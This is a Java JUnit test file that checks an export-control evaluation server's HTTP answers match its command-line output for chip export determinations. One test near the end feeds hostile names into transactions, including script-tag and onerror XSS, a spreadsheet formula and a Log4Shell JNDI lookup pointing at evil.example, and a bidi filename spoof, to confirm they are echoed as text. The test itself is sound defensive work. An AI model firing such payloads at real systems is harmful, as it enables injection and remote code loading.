package org.exportable.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Collectors;
import org.exportable.web.Ledgers;
import org.exportable.web.Served;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

/** Over HTTP the answers are those of the command line. */
class ServedAnswersTest {

    private static final String H20 =
            "{\"id\":\"one\",\"date\":\"2025-05-01\",\"to\":\"CN\",\"item\":\"nvidia-h20-96\",\"exporter\":{\"name\":\"NVIDIA\"}}";

    private static Served server;

    @BeforeAll
    static void start() {
        server = Served.start();
    }

    @AfterAll
    static void stop() {
        server.close();
    }

    private static JsonNode answer(String path, String json) {
        HttpResponse<String> response = server.post(path, json);
        assertEquals(200, response.statusCode(), response::body);
        return read(response.body());
    }

    private static JsonNode read(String json) {
        return JsonMapper.shared().readTree(json);
    }

    private static JsonNode printed(String transaction, String... arguments) {
        Run run = Run.reading(transaction, arguments);
        assertEquals(0, run.status(), run::err);
        return read(run.out());
    }

    private static JsonNode without(JsonNode answer, String... names) {
        ((ObjectNode) answer).remove(List.of(names));
        return answer;
    }

    private static JsonNode withoutFolders(JsonNode determination) {
        determination.findParents("folder").forEach(each -> without(each, "folder"));
        return determination;
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                H20,
                "{\"to\":\"Singapore\",\"item\":\"nvidia-h100-sxm\",\"date\":\"2025-06-01\"}",
                "{\"to\":\"CN\",\"item\":\"nvidia-rtx-4090\"}",
                "{\"to\":\"FR\",\"item\":\"amd-mi300x\",\"date\":\"2020-01-01\"}"
            })
    void evaluate(String transaction) {
        JsonNode answer = answer("/api/evaluate", "{\"transaction\":%s}".formatted(transaction));
        assertEquals(
                printed(transaction, "evaluate", "--format", "json", "-"), withoutFolders(answer.get("determination")));
    }

    @Test
    void the_other_view_where_it_differs() {
        String diffusion = "{\"to\":\"PL\",\"item\":\"nvidia-h100-sxm\",\"date\":\"2025-06-01\"}";
        assertEquals(
                printed(diffusion, "evaluate", "--format", "json", "--view", "PUBLISHED", "-"),
                withoutFolders(answer("/api/evaluate", "{\"transaction\":%s}".formatted(diffusion))
                        .get("other")));
        assertTrue(answer("/api/evaluate", "{\"transaction\":%s,\"regime\":\"2020-01-01\"}".formatted(H20))
                .path("other")
                .isMissingNode());
    }

    @Test
    void evaluate_under_a_regime_with_what_would_change_it() {
        String regime = "2025-05-01-nvidia-h20-letter-2025";
        JsonNode answer =
                answer("/api/evaluate", "{\"transaction\":%s,\"regime\":\"%s\",\"near\":true}".formatted(H20, regime));
        JsonNode printed = printed(H20, "evaluate", "--format", "json", "--near", "--regime", regime, "-");
        assertEquals(printed.get("nearest"), answer.get("nearest"));
        assertEquals(printed.get("furtherPairs"), answer.get("furtherPairs"));
        assertEquals(without(printed, "nearest", "furtherPairs"), withoutFolders(answer.get("determination")));
    }

    @Test
    void every_rule_names_the_folder_where_it_stands() {
        JsonNode determination =
                answer("/api/evaluate", "{\"transaction\":%s}".formatted(H20)).get("determination");
        for (JsonNode rule : determination.get("reasons")) {
            JsonNode provision =
                    read(server.get("/api/law/" + rule.get("folder").asString()).body());
            assertTrue(
                    provision
                            .get("versions")
                            .toString()
                            .contains(rule.get("rule").asString()),
                    rule::toString);
        }
    }

    @Test
    void every_condition_names_the_folder_where_it_stands() {
        JsonNode determination =
                answer("/api/evaluate", "{\"transaction\":%s}".formatted(H20)).get("determination");
        for (JsonNode exception : determination.get("exceptions")) {
            for (JsonNode condition : exception.get("conditions")) {
                String symbol = exception.get("symbol").asString();
                String folder = condition.get("folder").asString();
                assertTrue(folder.contains(symbol), () -> symbol + " in " + folder);
                assertTrue(
                        read(server.get("/api/law/" + folder).body())
                                .toString()
                                .contains(condition.get("text").asString()),
                        condition::toString);
            }
        }
    }

    @Test
    void timeline() {
        assertEquals(
                printed(H20, "timeline", "--format", "json", "-"),
                answer("/api/timeline", "{\"transaction\":%s}".formatted(H20)));
        assertEquals(
                printed(H20, "timeline", "--format", "json", "--without", "ai-diffusion", "-"),
                answer("/api/timeline", "{\"transaction\":%s,\"regime\":\"2025-06-01-ai-diffusion\"}".formatted(H20)));
    }

    @ParameterizedTest
    @CsvSource({
        "nvidia-h100-sxm, 2025-06-01, destination",
        "nvidia-h100-sxm, 2025-06-01/PUBLISHED, CN",
        "nvidia-h20-96, 2025-05-01, destination",
        "nvidia-rtx-4090, 2024-01-01, SG",
        "nvidia-h200-sxm, 2026-03-01, ",
        "hbm1-skhynix, 2025-06-01, destination"
    })
    void the_map_is_the_matrix(String item, String regime, String parent) {
        String transaction = "{\"to\":\"CN\",\"item\":\"%s\"}".formatted(item);
        String more = parent == null ? "" : ",\"parent\":\"%s\"".formatted(parent);
        JsonNode map =
                answer("/api/map", "{\"transaction\":%s,\"regime\":\"%s\"%s}".formatted(transaction, regime, more));
        Run run = parent == null
                ? Run.of("matrix", "--items", item, "--destinations", "all", "--regime", regime, "--format", "json")
                : Run.of(
                        "matrix",
                        "--items",
                        item,
                        "--destinations",
                        "all",
                        "--regime",
                        regime,
                        "--format",
                        "json",
                        "--parents",
                        parent);
        assertEquals("", run.err());
        assertEquals(
                run.out().lines().map(ServedAnswersTest::read).toList(),
                List.copyOf(map.get("cells").values()));
    }

    @Test
    void the_map_of_a_transactions_own_parties() {
        String transaction =
                "{\"to\":\"%s\",\"date\":\"2025-05-01\",\"item\":\"nvidia-h20-96\",\"exporter\":{\"name\":\"NVIDIA\"},"
                        + "\"consignee\":{\"country\":\"SG\",\"headquarters\":\"SG\",\"parentHeadquarters\":\"CN\"}}";
        JsonNode map = answer("/api/map", "{\"transaction\":%s}".formatted(transaction.formatted("CN")));
        for (JsonNode cell : map.get("cells")) {
            String to = cell.get("destination").asString();
            if (List.of("CN", "SG", "DE", "MO", "AE", "US", "IN", "RU").contains(to)) {
                JsonNode alone = answer("/api/evaluate", "{\"transaction\":%s}".formatted(transaction.formatted(to)));
                assertEquals(alone.get("determination").get("outcome"), cell.get("outcome"), to);
            }
        }
    }

    @Test
    void the_plane_is_the_sweep() {
        JsonNode plane = answer("/api/plane", """
                {"transaction":%s,"x":{"fact":"item.totalProcessingPerformance","from":1000,"to":64000},
                 "y":{"fact":"item.performanceDensity","from":1,"to":40}}""".formatted(H20));
        JsonNode sweep = printed(
                H20,
                "sweep",
                "--vary",
                "item.totalProcessingPerformance=1000..64000",
                "--vary",
                "item.performanceDensity=1..40",
                "--format",
                "json",
                "-");
        for (JsonNode chip : plane.get("chips")) {
            String alone = H20.replace("nvidia-h20-96", chip.get("id").asString());
            assertEquals(
                    answer("/api/evaluate", "{\"transaction\":%s}".formatted(alone))
                            .get("determination")
                            .get("outcome"),
                    chip.get("outcome"),
                    alone);
        }
        assertEquals(sweep, without(plane, "chips"));
    }

    @Test
    void compare() {
        JsonNode answer = answer(
                "/api/compare", "{\"transaction\":%s,\"regimes\":[\"2025-04-08\",\"2025-04-09\"]}".formatted(H20));
        JsonNode china = answer.get("map").values().stream()
                .filter(each -> each.get("to").asString().equals("CN"))
                .findFirst()
                .orElseThrow();
        assertEquals("NO_LICENSE_REQUIRED", china.get("before").asString());
        assertEquals("LICENSE_REQUIRED", china.get("after").asString());
        assertTrue(answer.get("map").values().stream()
                .noneMatch(each -> each.get("before").equals(each.get("after"))));
        assertEquals(
                printed(H20, "compare", "--format", "json", "-", "--regimes", "2025-04-08", "2025-04-09"),
                without(answer, "map"));
    }

    @Test
    void a_screened_ledger_is_the_same_bytes(@TempDir Path folder) throws IOException {
        Path ledger = Path.of("examples/ledger.csv");
        Path out = folder.resolve("out.csv");
        assertEquals(
                "", Run.of("screen", ledger.toString(), "-o", out.toString()).err());
        String id = Ledgers.screened(server, Files.readString(ledger));
        assertEquals(
                Files.readString(out),
                server.get("/api/screen/%s/answers.csv".formatted(id)).body());
        assertEquals(
                Files.readString(folder.resolve("out.csv.rejects")),
                server.get("/api/screen/%s/rejects.csv".formatted(id)).body());
    }

    @Test
    void a_screened_ledger_is_understood_and_summed_up_the_same(@TempDir Path folder) throws IOException {
        Path ledger = Path.of("examples/ledger.csv");
        Path summary = folder.resolve("summary.json");
        Run.of(
                "screen",
                ledger.toString(),
                "-o",
                folder.resolve("out.csv").toString(),
                "--summary",
                summary.toString());
        JsonNode status = read(server.get("/api/screen/" + Ledgers.screened(server, Files.readString(ledger)))
                .body());
        assertEquals(read(Files.readString(summary)), status.get("summary"));
        assertEquals(
                Run.of("screen", ledger.toString(), "--dry-run").out().replace(ledger.toString(), "ledger.csv"),
                status.get("mapping").values().stream()
                        .map(JsonNode::asString)
                        .collect(Collectors.joining("\n", "", "\n")));
        assertEquals(1, status.get("rejects").size());
        assertEquals(7, status.get("rejects").get(0).get("line").asInt());
    }

    /** What is markup, a formula or a change of direction somewhere is text here. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "\"';--</title><img src=x onerror=alert(1)>",
                "=HYPERLINK(\"http://evil.example\")",
                "\u202Etxt.exe\u2066",
                "\uD83D\uDE00 \u0000 \u2028",
                "${jndi:ldap://evil.example}"
            })
    void hostile_names_come_back_as_they_are(String name) {
        ObjectNode transaction = (ObjectNode) read(H20);
        transaction.put("id", name);
        transaction.putObject("consignee").put("name", name);
        ObjectNode inquiry = JsonMapper.shared().createObjectNode();
        inquiry.set("transaction", transaction);
        HttpResponse<String> response = server.post("/api/evaluate", inquiry.toString());
        assertEquals(name, read(response.body()).get("determination").get("id").asString());
        assertEquals(
                "application/json",
                response.headers().firstValue("Content-Type").orElseThrow());
        HttpResponse<String> memo = server.post("/api/memo", inquiry.toString());
        assertEquals(200, memo.statusCode());
        assertTrue(!memo.body().contains("<script>") && !memo.body().contains("<img"), memo::body);
    }

    @ParameterizedTest
    @CsvSource({"html, text/html; charset=utf-8", "markdown, text/markdown; charset=utf-8"})
    void a_memo_is_that_of_the_command_line(String format, String type) {
        HttpResponse<String> memo =
                server.post("/api/memo", "{\"transaction\":%s,\"format\":\"%s\"}".formatted(H20, format));
        assertEquals(type, memo.headers().firstValue("Content-Type").orElseThrow());
        assertEquals(
                Run.reading(H20, "evaluate", "--format", format, "-").out().strip(),
                memo.body().strip());
    }

    @Test
    void a_memo_is_a_pdf_too() {
        HttpResponse<String> memo = server.post("/api/memo", "{\"transaction\":%s,\"format\":\"pdf\"}".formatted(H20));
        assertEquals(
                "application/pdf", memo.headers().firstValue("Content-Type").orElseThrow());
        assertTrue(memo.body().startsWith("%PDF-"));
    }

    @Test
    void a_memo_can_leave_names_out() {
        HttpResponse<String> memo = server.post("/api/memo", "{\"transaction\":%s,\"redact\":true}".formatted(H20));
        assertFalse(memo.body().contains("NVIDIA"), memo::body);
    }
}
